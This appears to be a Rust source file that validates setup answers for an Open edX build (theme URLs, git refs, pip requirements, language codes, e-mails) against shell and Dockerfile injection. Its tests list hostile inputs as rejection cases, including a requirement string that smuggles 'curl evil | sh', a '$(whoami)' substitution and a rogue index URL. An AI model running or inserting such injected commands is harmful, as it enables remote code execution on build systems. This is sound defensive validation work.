//! Checks of the answers that shape the Open edX a school runs: the theme repository and its
//! ref, extra pip requirements, the language code and the contact e-mail. Each returns what is
//! wrong and what is expected, for the key's message.

use super::questions::check_domain;

/// Characters refused in every value written into the build's files: a single quote would end
/// Tutor's `pip install '<requirement>'` line of the Dockerfile, braces would be rendered by
/// Tutor (it renders its settings as templates), the others would be read by a shell.
const UNSAFE: &[char] = &['\'', '\\', '`', '$', '{', '}'];
/// Also refused in URLs and refs, which need none of them.
const UNSAFE_IN_NAMES: &[char] = &['<', '>', '|', '&', '!', '"', ';'];

fn check_safe(text: &str) -> Result<(), String> {
    if let Some(bad) = text.chars().find(|c| UNSAFE.contains(c)) {
        return Err(format!(
            "`{bad}` is not allowed here (it would be read by the shell or the Dockerfile that installs it)"
        ));
    }
    Ok(())
}

fn check_safe_name(text: &str) -> Result<(), String> {
    check_safe(text)?;
    if let Some(bad) = text.chars().find(|c| UNSAFE_IN_NAMES.contains(c)) {
        return Err(format!(
            "`{bad}` is not allowed here (it would be read by the shell or the Dockerfile that installs it)"
        ));
    }
    Ok(())
}

/// An `https://` URL of a git repository, without credentials, query or fragment: the build
/// clones it, with the private-repository token for github.com.
pub(crate) fn check_git_url(text: &str) -> Result<(), String> {
    check_https_url(text, "a repository")?;
    Ok(())
}

/// Checks `https://host/path` and returns the path; `what` names the thing for messages.
fn check_https_url<'a>(text: &'a str, what: &str) -> Result<&'a str, String> {
    if text.chars().any(char::is_whitespace) {
        return Err("holds a space: expected one URL".into());
    }
    check_safe_name(text)?;
    let Some(rest) = text.strip_prefix("https://") else {
        let hint = if text.starts_with("git@") || text.starts_with("ssh://") {
            " (the build clones over HTTPS with a token: write `https://host/owner/repository.git`)"
        } else if text.starts_with("http://") {
            " (plain HTTP could be tampered with on the way)"
        } else {
            ""
        };
        return Err(format!("expected an `https://` URL of {what}{hint}"));
    };
    let (authority, path) = rest.split_once('/').unwrap_or((rest, ""));
    if authority.contains('@') {
        return Err(
            "holds credentials (`user@` or a token): they would be committed in the answers; the build reads the token from the GitHub secret PRIVATE_REPOSITORIES_TOKEN".into(),
        );
    }
    let host = authority
        .split_once(':')
        .map_or(authority, |(host, _)| host);
    check_domain(host, 2).map_err(|message| format!("has the host `{host}`, which {message}"))?;
    if text.contains(['?', '#']) {
        return Err(format!(
            "holds `?` or `#`: expected the plain URL of {what}"
        ));
    }
    let path = path.trim_end_matches('/');
    if path.is_empty() {
        return Err(format!(
            "has no path: expected the URL of {what}, as in `https://github.com/yourschool/openedx-theme.git`"
        ));
    }
    if path
        .split('/')
        .any(|segment| segment.is_empty() || segment == "." || segment == "..")
    {
        return Err("has an empty, `.` or `..` segment in its path".into());
    }
    Ok(path)
}

/// The folder a theme repository is cloned into, which is the theme's name in Open edX: the
/// last segment of the URL without `.git`.
pub fn theme_name(url: &str) -> String {
    let last = url.trim_end_matches('/').rsplit('/').next().unwrap_or(url);
    last.strip_suffix(".git").unwrap_or(last).to_owned()
}

/// What a theme's folder name may hold: Open edX looks themes up by folder name.
pub(crate) fn check_theme_url(text: &str) -> Result<(), String> {
    check_git_url(text)?;
    let name = theme_name(text);
    if name.is_empty()
        || !name.starts_with(|c: char| c.is_ascii_alphanumeric())
        || !name
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.'))
    {
        return Err(format!(
            "ends in `{name}`, which becomes the theme's folder and name: use letters, digits, `-`, `_` and `.`"
        ));
    }
    Ok(())
}

/// A branch, tag or commit, as `git check-ref-format` allows a branch or tag name.
pub(crate) fn check_git_ref(text: &str) -> Result<(), String> {
    if text.is_empty() {
        return Err("is empty: give a branch, a tag or a commit".into());
    }
    check_safe_name(text)?;
    if text.len() > 200 {
        return Err("is longer than 200 characters".into());
    }
    if let Some(bad) = text.chars().find(|c| {
        c.is_whitespace() || c.is_control() || matches!(c, '~' | '^' | ':' | '?' | '*' | '[')
    }) {
        return Err(format!(
            "`{}` is not allowed in a git ref",
            bad.escape_default()
        ));
    }
    if text.starts_with(['-', '/', '.'])
        || text.ends_with(['/', '.'])
        || text.ends_with(".lock")
        || text.contains("..")
        || text.contains("//")
        || text.contains("/.")
        || text.contains("@{")
        || text == "@"
    {
        return Err(
            "is not a valid git ref name (see `git check-ref-format`): no leading `-`, `.` or `/`, no `..`, `//`, `@{` or trailing `.lock`".into(),
        );
    }
    Ok(())
}

/// A PEP 508 project name.
fn is_project_name(name: &str) -> bool {
    !name.is_empty()
        && name.starts_with(|c: char| c.is_ascii_alphanumeric())
        && name.ends_with(|c: char| c.is_ascii_alphanumeric())
        && name
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-'))
}

/// One line of `extra_pip_requirements`: a PyPI requirement (`name[extras]<spec> ; marker`), or
/// a git repository (`git+https://...@ref`, optionally `#egg=name` or `name @ git+https://...`),
/// or a direct `https://` URL of a wheel or archive. No pip options, no local paths.
pub(crate) fn check_requirement(text: &str) -> Result<(), String> {
    let line = text.trim();
    if line.is_empty() {
        return Err("is empty".into());
    }
    if line.starts_with('-') {
        return Err(
            "is a pip option, not a requirement: an index or a constraint file cannot be set here (install from git or an https URL instead)".into(),
        );
    }
    if line.starts_with('#') {
        return Err("is a comment: give the requirement itself".into());
    }
    check_safe(line)?;
    if line.len() > 500 {
        return Err("is longer than 500 characters".into());
    }
    let (name_part, url) = match line.split_once(" @ ") {
        Some((name, url)) => (Some(name.trim()), Some(url.trim())),
        None if line.contains("://") || line.starts_with("git+") => (None, Some(line)),
        None => (None, None),
    };
    if let Some(url) = url {
        if let Some(name) = name_part {
            let bare = name.split('[').next().unwrap_or(name);
            if !is_project_name(bare) {
                return Err(format!(
                    "`{bare}` is not a package name (letters, digits, `.`, `_`, `-`)"
                ));
            }
        }
        let (url, fragment) = url.split_once('#').unwrap_or((url, ""));
        if let Some(git) = url.strip_prefix("git+") {
            let (repository, _git_ref) = split_git_ref(git);
            if !git.starts_with("https://") {
                return Err(
                    "installs from git over a protocol other than HTTPS: write `git+https://host/owner/repository.git@<tag or commit>` (the build clones with the token of PRIVATE_REPOSITORIES_TOKEN)".into(),
                );
            }
            check_https_url(repository, "a git repository")?;
        } else {
            check_https_url(url, "a package archive")?;
        }
        for part in fragment.split('&').filter(|part| !part.is_empty()) {
            match part.split_once('=') {
                Some(("egg", name)) if is_project_name(name) => {}
                Some(("subdirectory", path))
                    if !path.is_empty() && !path.split('/').any(|s| s == ".." || s.is_empty()) => {}
                _ => {
                    return Err(format!(
                        "has the URL fragment `#{part}`; only `#egg=<name>` and `#subdirectory=<path>` are understood"
                    ));
                }
            }
        }
        return Ok(());
    }
    if line.starts_with(['.', '/', '~']) {
        return Err(
            "is a local path: the build cannot see your disk; install from git (`git+https://...@v1.0`) or PyPI".into(),
        );
    }
    let (requirement, marker) = line.split_once(';').unwrap_or((line, ""));
    if marker.contains(';') {
        return Err("holds more than one `;`".into());
    }
    let requirement = requirement.trim();
    let name_end = requirement
        .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-')))
        .unwrap_or(requirement.len());
    let (name, rest) = requirement.split_at(name_end);
    if !is_project_name(name) {
        return Err(
            "does not start with a package name: expected a requirement such as `xblock-drag-and-drop-v2==5.0.3`".into(),
        );
    }
    let rest = rest.trim_start();
    let rest = match rest.strip_prefix('[') {
        Some(extras) => {
            let Some((extras, after)) = extras.split_once(']') else {
                return Err("opens `[` for extras without closing it".into());
            };
            if !extras.split(',').all(|extra| is_project_name(extra.trim())) {
                return Err(format!("has the extras `[{extras}]`, which are not names"));
            }
            after.trim_start()
        }
        None => rest,
    };
    for clause in rest
        .split(',')
        .map(str::trim)
        .filter(|clause| !clause.is_empty())
    {
        let version_start = clause
            .find(|c: char| !matches!(c, '=' | '<' | '>' | '!' | '~'))
            .unwrap_or(clause.len());
        let (operator, version) = clause.split_at(version_start);
        let version = version.trim();
        if !["==", "!=", "<=", ">=", "<", ">", "~=", "==="].contains(&operator)
            || version.is_empty()
            || !version
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '*' | '+' | '-' | '_'))
        {
            return Err(format!(
                "has `{clause}` where a version specifier (`==5.0.3`, `>=1.2,<2`) belongs"
            ));
        }
    }
    Ok(())
}

/// `https://host/repo.git@ref` -> (`https://host/repo.git`, `ref`); the `@` of a ref comes
/// after the last `/`.
pub(crate) fn split_git_ref(url: &str) -> (&str, Option<&str>) {
    let slash = url.rfind('/').unwrap_or(0);
    match url[slash..].find('@') {
        Some(at) => (&url[..slash + at], Some(&url[slash + at + 1..])),
        None => (url, None),
    }
}

/// Whether a requirement line pins what it installs: `==` on PyPI, a ref on git, any archive.
pub fn requirement_is_pinned(text: &str) -> bool {
    let line = text.trim();
    let url = line.split_once(" @ ").map_or(line, |(_, url)| url.trim());
    if let Some(git) = url.strip_prefix("git+") {
        let git = git.split('#').next().unwrap_or(git);
        return split_git_ref(git)
            .1
            .is_some_and(|git_ref| !git_ref.is_empty());
    }
    url.contains("://") || line.split(';').next().unwrap_or(line).contains("==")
}

/// A Django `LANGUAGE_CODE`: a language and optional region or script, lowercase, joined by `-`
/// (`en`, `fr`, `pt-br`, `es-419`, `zh-hans`).
pub(crate) fn check_language_code(text: &str) -> Result<(), String> {
    let suggestion = text.replace('_', "-").to_ascii_lowercase();
    let well_formed = |code: &str| {
        let mut parts = code.split('-');
        let language = parts.next().unwrap_or_default();
        (2..=3).contains(&language.len())
            && language.chars().all(|c| c.is_ascii_lowercase())
            && parts.all(|part| {
                (2..=8).contains(&part.len())
                    && part
                        .chars()
                        .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit())
            })
    };
    if well_formed(text) {
        return Ok(());
    }
    if well_formed(&suggestion) {
        return Err(format!(
            "Django writes language codes in lowercase with `-`: did you mean `{suggestion}`?"
        ));
    }
    Err("expected a language code such as `en`, `fr`, `pt-br`, `es-419` or `zh-hans`".into())
}

/// An e-mail address of a domain (`support@yourschool.edu`), in characters that every file it
/// goes into takes as they are.
pub(crate) fn check_email(text: &str) -> Result<(), String> {
    let Some((local, domain)) = text.rsplit_once('@') else {
        return Err("expected an e-mail address such as `support@yourschool.edu`".into());
    };
    if local.is_empty() || local.len() > 64 {
        return Err("has no part before `@`, or one longer than 64 characters".into());
    }
    if let Some(bad) = local
        .chars()
        .find(|c| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '%' | '+' | '-')))
    {
        return Err(format!(
            "`{bad}` is not allowed before the `@` here (letters, digits, `.`, `_`, `%`, `+`, `-`)"
        ));
    }
    if local.starts_with('.') || local.ends_with('.') || local.contains("..") {
        return Err("has a `.` at an end of its name or two in a row".into());
    }
    check_domain(domain, 2).map_err(|message| format!("has the domain `{domain}`, which {message}"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn requirements() {
        for good in [
            "xblock-drag-and-drop-v2==5.0.3",
            "edx-ora2>=6.0,<7",
            "openedx-scorm-xblock[extra]==19.0.1",
            "some-package==1.0 ; python_version >= \"3.11\"",
            "git+https://github.com/yourschool/xblock-poll.git@v1.2.0",
            "git+https://github.com/yourschool/private-plugin.git@0123abcd#egg=private-plugin",
            "my-plugin @ git+https://gitlab.com/yourschool/my-plugin.git@main",
            "https://files.example.org/pkg/my_pkg-1.0-py3-none-any.whl",
        ] {
            assert_eq!(check_requirement(good), Ok(()), "{good}");
        }
        for (bad, needle) in [
            ("-e git+https://github.com/a/b.git", "pip option"),
            ("--index-url https://evil.example/simple", "pip option"),
            ("xblock' && curl evil | sh '", "not allowed"),
            ("git+ssh://git@github.com/a/b.git", "HTTPS"),
            (
                "git+https://user:token@github.com/a/b.git@v1",
                "credentials",
            ),
            ("./local-package", "local path"),
            ("pkg==$(whoami)", "not allowed"),
            ("pkg=1.0", "version specifier"),
            ("# just a comment", "comment"),
            ("git+https://github.com/a/b.git@v1#evil=1", "fragment"),
            ("http://example.org/pkg.whl", "https"),
        ] {
            let message = check_requirement(bad).unwrap_err();
            assert!(message.contains(needle), "{bad}: {message}");
        }
        assert!(requirement_is_pinned("a==1"));
        assert!(requirement_is_pinned("git+https://github.com/a/b.git@v1"));
        assert!(!requirement_is_pinned("git+https://github.com/a/b.git"));
        assert!(!requirement_is_pinned("a>=1"));
    }

    #[test]
    fn repositories_refs_languages_and_addresses() {
        assert_eq!(
            check_theme_url("https://github.com/yourschool/openedx-theme.git"),
            Ok(())
        );
        assert_eq!(
            theme_name("https://github.com/yourschool/openedx-theme.git"),
            "openedx-theme"
        );
        for (bad, needle) in [
            ("git@github.com:yourschool/theme.git", "HTTPS"),
            (
                "https://ghp_secret@github.com/yourschool/theme.git",
                "credentials",
            ),
            ("https://github.com", "no path"),
            ("https://github.com/a/../b", "`..`"),
            ("https://github.com/yourschool/theme.git?x=1", "`?`"),
        ] {
            let message = check_theme_url(bad).unwrap_err();
            assert!(message.contains(needle), "{bad}: {message}");
        }
        for good in [
            "main",
            "v1.2.0",
            "release/verawood",
            "0123456789abcdef0123456789abcdef01234567",
        ] {
            assert_eq!(check_git_ref(good), Ok(()), "{good}");
        }
        for bad in ["-x", "a..b", "a b", "a.lock", "a@{1}", "$(x)", "a~1"] {
            assert!(check_git_ref(bad).is_err(), "{bad}");
        }
        for good in ["en", "fr", "pt-br", "es-419", "zh-hans"] {
            assert_eq!(check_language_code(good), Ok(()), "{good}");
        }
        assert!(
            check_language_code("pt_BR")
                .unwrap_err()
                .contains("`pt-br`")
        );
        assert!(check_language_code("english").is_err());
        assert_eq!(check_email("support@yourschool.edu"), Ok(()));
        for bad in [
            "support",
            "a b@x.edu",
            "x@localhost",
            "\"x\"@y.edu",
            "x@@y.edu",
        ] {
            assert!(check_email(bad).is_err(), "{bad}");
        }
    }
}
